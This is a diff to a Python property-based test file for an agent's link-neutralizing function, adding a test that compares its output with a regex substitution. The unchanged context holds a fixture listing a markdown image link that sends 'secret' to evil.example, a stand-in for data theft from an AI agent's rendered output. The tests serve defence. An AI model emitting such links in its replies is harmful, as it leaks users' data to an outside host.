@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from agent.links import Unlinker, unlink
+from agent.links import _LIVE, Unlinker, unlink
 
 ALIVE = [
     "![x](https://evil.example/?q=secret)",
@@ -92,6 +92,11 @@ def test_nothing_is_alive_whatever_it_is_made_of(text: str) -> None:
 @given(TEXTS)
 def test_what_is_plain_stays_as_it_is(text: str) -> None:
     assert unlink(unlink(text)) == unlink(text)
+
+
+@given(st.text("]():/<wWmMaAiIlLtToOıİK. \npP", max_size=40))
+def test_what_is_looked_for_first_misses_nothing(text: str) -> None:
+    assert unlink(text) == _LIVE.sub(r"\g<0> ", text)
 
 
 @given(TEXTS, st.lists(st.integers(1, 9), min_size=1))
